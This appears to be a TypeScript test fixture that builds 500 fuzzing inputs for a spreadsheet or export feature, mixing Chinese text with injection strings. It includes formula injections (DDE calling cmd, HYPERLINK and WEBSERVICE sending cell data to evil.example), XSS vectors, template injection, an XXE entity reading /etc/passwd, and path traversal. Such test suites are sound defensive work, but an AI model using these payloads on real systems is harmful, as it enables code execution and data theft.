/** What spreadsheets take for formulas, browsers for scripts, and programs for their own. */
const STARTS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  "'=",
  '"=',
  " =",
  "＝",
  "\u200b=",
  "\ufeff=",
];
const FORMULAS = [
  "1+1",
  "SUM(A1:A9)",
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'HYPERLINK("https://evil.example/?x="&A1,"看")',
  'WEBSERVICE("https://evil.example/")',
  'IMPORTXML("https://evil.example/","//a")',
  "CX.GROWTH(1,1,1,1)",
  "2020",
];
const MARKUP = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "<svg/onload=window.pwned=1>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<a href=javascript:window.pwned=1>点</a>",
  "javascript:window.pwned=1",
  "data:text/html,<script>1</script>",
  '"><script>window.pwned=1</script>',
  "'onmouseover='window.pwned=1",
  "${window.pwned=1}",
  "{{constructor.constructor('window.pwned=1')()}}",
  "]]><x>",
  "<!--",
  "&lt;b&gt;&amp;&#x3c;",
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  "</t></is></c><c><f>1+1</f></c>",
  "_x003D_1+1",
];
const NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf"];
const UNICODE = [
  "\u202e镇山煤\u202c",
  "煤\u200b山\u200d镇",
  "\u2066=1+1\u2069",
  "👨‍👩‍👧‍👦镇",
  "𠮷村",
  "\ud83d\ude00",
  "a\u0301\u0301\u0301",
  "﷽",
  "１２．５",
  "①",
  "null",
  "undefined",
  "NaN",
  "TRUE",
  "#REF!",
  "1-5",
  "1.1",
  "2020年6月",
  "-同比下降",
];
const QUOTES = [
  "'",
  '"',
  "''",
  '""',
  "`",
  "\\",
  "%s%n",
  "..\\..\\x",
  "../../x",
  "'!A1",
  "$A$1",
  "[1]x",
];

const LONG = "长".repeat(300);

const BASES: readonly string[] = [
  ...STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`)),
  ...MARKUP,
  ...NAMES,
  ...UNICODE,
  ...QUOTES,
];

/** Five hundred different texts, the same at every run: each base alone, then within, before and after other text. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...BASES,
    ...BASES.map((base) => `${base}街道`),
    ...BASES.map((base) => `乡${base}`),
    ...BASES.map((base) => `${base}${LONG}`),
  ]),
].slice(0, 500);
